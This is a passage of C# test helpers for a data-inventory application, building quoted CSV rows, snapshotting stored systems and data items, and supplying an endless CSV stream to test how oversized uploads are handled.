        string category = "", string otherCategory = "", string sensitivity = "", string purpose = "", string records = "", string retention = "",
        string deletion = "", string oldestRecord = "", string lastReviewed = "", string sharedWith = "")
    {
        var cells = new string[InventoryCsv.Headers.Count];
        Array.Fill(cells, "");
        cells[(int)CsvColumn.System] = system;
        cells[(int)CsvColumn.Type] = type;
        cells[(int)CsvColumn.Operator] = op;
        cells[(int)CsvColumn.Vendor] = vendor;
        cells[(int)CsvColumn.BusinessOwner] = owner;
        cells[(int)CsvColumn.EncryptedAtRest] = encrypted;
        cells[(int)CsvColumn.SystemNotes] = notes;
        cells[(int)CsvColumn.Category] = category;
        cells[(int)CsvColumn.OtherCategory] = otherCategory;
        cells[(int)CsvColumn.SensitivityOverride] = sensitivity;
        cells[(int)CsvColumn.Purpose] = purpose;
        cells[(int)CsvColumn.ApproximateRecords] = records;
        cells[(int)CsvColumn.Retention] = retention;
        cells[(int)CsvColumn.DeletionMethod] = deletion;
        cells[(int)CsvColumn.OldestRecord] = oldestRecord;
        cells[(int)CsvColumn.ItemLastReviewed] = lastReviewed;
        cells[(int)CsvColumn.SharedWith] = sharedWith;
        return string.Join(",", cells.Select(c => c.IndexOfAny([',', '"', '\r', '\n']) >= 0 ? "\"" + c.Replace("\"", "\"\"", StringComparison.Ordinal) + "\"" : c));
    }

    /// <summary>Every stored fact of every system and item (shares by name), one line each, in a stable order.</summary>
    private static async Task<List<string>> SnapshotAsync(AppFactory app)
    {
        await using var db = await app.CreateDbContextAsync();
        var systems = await db.InventorySystems.AsNoTracking().Include(s => s.Items).ThenInclude(i => i.SharedWith).ThenInclude(s => s.System).ToListAsync();
        var lines = new List<string>();
        foreach (var s in systems)
        {
            lines.Add($"S|{s.Id}|{s.Name}|{s.Type}|{s.Operator}|{s.VendorName}|{s.VendorContact}|{s.HasDpa}|{s.OwnerUserId}|{s.AdminUrl}|{s.EncryptedAtRest}|{s.AdminTwoFactor}|" +
                $"{s.DefaultPasswordsChanged}|{s.Updates}|{s.EndOfLife}|{s.LastReviewed}|{s.Notes}|{s.IsSuggestion}|{s.CreatedUtc:O}|{s.UpdatedUtc:O}");
            foreach (var i in s.Items)
            {
                lines.Add($"I|{i.Id}|{s.Name}|{i.Category}|{i.OtherCategory}|{i.SensitivityOverride}|{i.OverrideReason}|{i.Purpose}|{i.ApproxRecords}|{i.RetentionTrigger}|" +
                    $"{i.RetentionAmount}|{i.RetentionUnit}|{i.DeletionMethod}|{i.OldestRecord}|{i.LastReviewed}|{i.IsSuggestion}|{i.CreatedUtc:O}|{i.UpdatedUtc:O}|" +
                    string.Join(";", i.SharedWith.Select(x => x.System!.Name).Order(StringComparer.Ordinal)));
            }
        }
        lines.Sort(StringComparer.Ordinal);
        return lines;
    }

    private static async Task<List<string>> ItemKeysAsync(AppFactory app)
    {
        await using var db = await app.CreateDbContextAsync();
        var items = await db.DataItems.AsNoTracking().Include(i => i.System).ToListAsync();
        return items.Select(i => $"{i.System!.Name}: {DataCatalog.Label(i.Category, i.OtherCategory)}").Order(StringComparer.Ordinal).ToList();
    }

    private static async Task AssertInventoryEmptyAsync(AppFactory app)
    {
        await using var db = await app.CreateDbContextAsync();
        Assert.Equal(0, await db.InventorySystems.CountAsync());
        Assert.Equal(0, await db.DataItems.CountAsync());
    }

    /// <summary>An upload that never ends, generated as it is read, counting what it served.</summary>
    private sealed class EndlessCsvStream(byte[] header, Func<long, string> row) : Stream
    {
        private byte[] _pending = header;
        private int _offset;
        private long _rows;

        public long BytesServed { get; private set; }
        public override bool CanRead => true;
        public override bool CanSeek => false;
        public override bool CanWrite => false;
        public override long Length => throw new NotSupportedException();
        public override long Position { get => throw new NotSupportedException(); set => throw new NotSupportedException(); }

        public override int Read(byte[] buffer, int offset, int count)
        {
            var written = 0;
            while (written < count)
            {
                if (_offset == _pending.Length)
                {
                    _pending = Encoding.UTF8.GetBytes(row(++_rows));
                    _offset = 0;
                }
                var n = Math.Min(count - written, _pending.Length - _offset);
                Array.Copy(_pending, _offset, buffer, offset + written, n);
                _offset += n;
                written += n;
            }
            BytesServed += written;
            return written;
        }

        public override void Flush()
        {
        }

        public override long Seek(long offset, SeekOrigin origin) => throw new NotSupportedException();
        public override void SetLength(long value) => throw new NotSupportedException();
        public override void Write(byte[] buffer, int offset, int count) => throw new NotSupportedException();
    }
}
